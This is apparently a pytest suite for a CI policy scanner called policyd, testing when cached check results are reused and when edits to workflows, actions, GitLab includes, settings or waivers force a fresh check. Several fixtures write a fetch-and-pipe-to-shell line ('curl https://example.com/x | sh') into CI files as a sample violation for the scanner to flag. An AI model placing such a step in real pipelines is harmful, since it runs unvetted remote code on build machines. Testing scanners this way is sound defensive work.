"""The same check again costs next to nothing, and whatever its answer follows from makes it another check."""

from __future__ import annotations

import os
import subprocess
import sys
from collections.abc import Callable
from datetime import UTC, datetime
from pathlib import Path

import pytest

from policyd.app import check_again, waivers
from policyd.app.check_again import Follows, look_back

NOW = datetime(2027, 6, 1, tzinfo=UTC)
WORKFLOW = """\
on: push
permissions: {}
jobs:
  a:
    runs-on: ubuntu-24.04
    timeout-minutes: 5
    steps:
      - uses: ./.github/actions/one
      - uses: somebody/something@v1
"""
ACTION = "name: One\nruns:\n  using: composite\n  steps:\n    - {run: make, shell: bash}\n"
#: Nothing in it says GitLab, so it is read because another file includes it.
JOBS = "some: {script: [make]}\n"
WRONG_ACTION = ACTION.replace("run: make", 'run: "curl https://example.com/x | sh"')
#: Runs policyd and says on the last line what heavy it imported.
RUN = """\
import atexit, sys
atexit.register(lambda: print(sorted({"pydantic", "regorus", "yaml", "tree_sitter"} & set(sys.modules))))
from policyd.cli.main import run
run()
"""


@pytest.fixture
def project(tmp_path: Path) -> Path:
    folder = tmp_path / "project"
    (folder / ".github" / "workflows").mkdir(parents=True)
    (folder / ".github" / "actions" / "one").mkdir(parents=True)
    (folder / ".git").mkdir()
    (folder / ".github" / "workflows" / "ci.yml").write_text(WORKFLOW)
    (folder / ".github" / "actions" / "one" / "action.yml").write_text(ACTION)
    (folder / ".gitlab-ci.yml").write_text("include:\n  - local: ci/jobs.yml\n  - local: ci/more.yml\n")
    (folder / "ci").mkdir()
    (folder / "ci" / "jobs.yml").write_text(JOBS)
    return folder


@pytest.fixture
def run(project: Path, tmp_path: Path) -> Callable[..., tuple[int, str, str]]:
    def run(*arguments: str) -> tuple[int, str, str]:
        """Return the exit code, what was said, and what heavy was imported for it."""
        home = {"HOME": str(tmp_path), "XDG_CACHE_HOME": str(tmp_path / "cache"), "XDG_CONFIG_HOME": str(tmp_path)}
        done = subprocess.run(
            [sys.executable, "-c", RUN, "check", *arguments],
            cwd=project,
            env={**os.environ, **home, "POLICYD_CACHE": "1"},
            capture_output=True,
            text=True,
            check=False,
        )
        said, _, imported = done.stdout.rstrip("\n").rpartition("\n")
        return done.returncode, said, imported

    return run


def _change_workflow(project: Path) -> None:
    (project / ".github" / "workflows" / "ci.yml").write_text(WORKFLOW.replace("something@v1", "something@v2"))


def _add_workflow(project: Path) -> None:
    (project / ".github" / "workflows" / "other.yml").write_text(WORKFLOW)


def _change_action(project: Path) -> None:
    (project / ".github" / "actions" / "one" / "action.yml").write_text(WRONG_ACTION)


def _remove_action(project: Path) -> None:
    (project / ".github" / "actions" / "one" / "action.yml").unlink()


def _change_include(project: Path) -> None:
    (project / "ci" / "jobs.yml").write_text('some: {script: ["curl https://example.com/x | sh"]}\n')


def _remove_include(project: Path) -> None:
    (project / "ci" / "jobs.yml").unlink()


def _add_missing_include(project: Path) -> None:
    (project / "ci" / "more.yml").write_text('other: {script: ["curl https://example.com/x | sh"]}\n')


def _add_project_settings(project: Path) -> None:
    (project / "policyd.yaml").write_text("policyd: project/v1\ncollection: strict\n")


def _add_waivers(project: Path) -> None:
    (project / "waivers").mkdir()


def _link_waivers(project: Path) -> None:
    (project / "waivers").symlink_to("nowhere")


def _add_operator_settings(project: Path) -> None:
    (project.parent / "policyd").mkdir()
    (project.parent / "policyd" / "settings.yaml").write_text("nonsense: true\n")


def test_the_same_again_is_said_without_importing_what_judges(run: Callable[..., tuple[int, str, str]]) -> None:
    first = run(".")
    second = run(".")

    assert second[:2] == first[:2] == run(".", "--no-cache")[:2]
    assert first[0] == 1
    assert "somebody/something@v1" in first[1]
    assert "pydantic" in first[2]
    assert second[2] == "[]"


@pytest.mark.parametrize(
    "change",
    [
        _change_workflow,
        _add_workflow,
        _change_action,
        _remove_action,
        _change_include,
        _remove_include,
        _add_missing_include,
        _add_project_settings,
        _add_waivers,
        _link_waivers,
        _add_operator_settings,
    ],
)
def test_what_an_answer_follows_from_makes_another_check(
    run: Callable[..., tuple[int, str, str]], project: Path, change: Callable[[Path], None]
) -> None:
    run(".")
    change(project)

    code, said, imported = run(".")

    assert imported != "[]"
    assert (code, said) == run(".", "--no-cache")[:2]


@pytest.mark.parametrize(
    "option",
    [
        ("--fail-on", "low"),
        ("--persona", "auditor"),
        ("--format", "markdown"),
        ("--format", "json"),
        ("--no-cache",),
        ("--engine", "both"),
        ("--effective-time", "2030-01-01"),
        ("--write-baseline", "../baseline.json"),
    ],
)
def test_another_question_is_not_answered_so(run: Callable[..., tuple[int, str, str]], option: tuple[str, ...]) -> None:
    run(".")

    assert run(".", *option)[2] != "[]"


def test_json_says_when_it_was_decided_and_is_made_each_time(run: Callable[..., tuple[int, str, str]]) -> None:
    run(".", "--format", "json")

    assert run(".", "--format", "json")[2] != "[]"


def test_what_is_undecided_is_asked_again(run: Callable[..., tuple[int, str, str]], project: Path) -> None:
    (project / ".github" / "workflows" / "broken.yml").write_text("on: [\n")
    first = run(".")

    assert first[0] == 3
    assert run(".")[2] != "[]"


def test_nothing_is_opened_that_an_answer_does_not_follow_from(project: Path, tmp_path: Path) -> None:
    """Every file of the project that a check opens is one that is looked at again."""
    code = f"""\
import os, sys
opened = set()
def note(event, arguments):
    if event in ("open", "os.open"):
        opened.add(str(arguments[0]))
sys.addaudithook(note)
from pathlib import Path
from datetime import datetime, UTC
from policyd.app.check import check
check([Path("{project}")], settings=None, engine=None, fail_on=None, now=datetime.now(UTC), cache=Path("{tmp_path}/c"))
names = {{path.rpartition("/")[2] for path in opened if "project" in path or "/" not in path}}
files = {{path.name for path in Path("{project}").rglob("*") if path.is_file()}}
print(sorted(names & files))
"""
    (project / "other.txt").write_text("not looked at\n")
    done = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True)

    assert done.stdout.strip() == "['.gitlab-ci.yml', 'action.yml', 'ci.yml', 'jobs.yml']"


def _answered(project: Path, folder: Path, *, until: datetime | None, now: datetime) -> tuple[str, int] | None:
    earlier = look_back(folder, [project], settings=None, asked=())
    assert earlier is not None
    earlier.keep(Follows([{} for _ in earlier.sources], until), "said\n", 1)
    again = look_back(folder, [project], settings=None, asked=())
    assert again is not None
    return again.find(now=now)


def test_an_answer_ends_on_the_day_a_rule_begins(
    project: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path))
    day = datetime(2027, 6, 2, tzinfo=UTC)

    assert _answered(project, tmp_path / "cache", until=day, now=NOW) == ("said\n", 1)
    assert _answered(project, tmp_path / "cache", until=day, now=day) is None
    assert _answered(project, tmp_path / "cache", until=None, now=day) == ("said\n", 1)


@pytest.mark.parametrize("content", [b"", b"[]", b"{}", b'{"until": 1, "included": [], "output": "", "exit_code": 0}'])
def test_words_of_another_shape_say_nothing(
    project: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, content: bytes
) -> None:
    monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path))
    earlier = look_back(tmp_path / "cache", [project], settings=None, asked=())
    assert earlier is not None
    earlier.cache.keep(earlier.key, content)

    assert earlier.find(now=NOW) is None


def test_the_folder_of_waivers_is_the_one_that_waivers_are_read_from() -> None:
    assert check_again._WAIVERS == waivers.FOLDER


def test_other_code_is_another_check(project: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path))
    before = look_back(tmp_path / "cache", [project], settings=None, asked=())
    monkeypatch.setattr(check_again, "__version__", "9.9.9")
    after = look_back(tmp_path / "cache", [project], settings=None, asked=())

    assert before is not None
    assert after is not None
    assert before.key != after.key
